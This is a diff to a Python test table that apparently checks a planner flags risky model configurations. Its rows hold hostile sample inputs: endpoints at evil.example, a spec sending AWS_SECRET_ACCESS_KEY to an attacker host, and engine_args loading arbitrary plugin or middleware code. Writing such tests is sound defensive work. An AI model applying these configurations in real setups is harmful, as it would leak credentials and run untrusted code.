@@ -57,6 +57,11 @@ def plan(tmp_path):
         ({"captioners": [f'openai:m?base_url=["{EVIL}"]']}, f"call {EVIL}"),
         ({"captioners": ["openai:m?base_url=https%3A%2F%2Fevil.example"]}, f"call {EVIL}"),
         ({"reasoner": f"{TO_EVIL}&api_key_env=AWS_SECRET_ACCESS_KEY"}, f"call {EVIL} with $AWS_SECRET_ACCESS_KEY"),
+        ({"reasoner": 'vllm:m?engine_args={"tool_parser_plugin":"/tmp/x.py"}'}, "start m with engine_args="),
+        (
+            {"captioners": ['merge(blind, ray:vllm:m?engine_args={"middleware":"a.b"})']},
+            "start vllm:m with engine_args",
+        ),
         ({"captioners": ["ray:transformers:m?address=ray://evil.example:1"]}, "call ray://evil.example:1"),
         ({"captioners": ["ray:transformers:m?address=evil.example:1"]}, "call evil.example:1"),
         ({"benchmarks": ["lmms:task.yaml"]}, "/task.yaml names"),
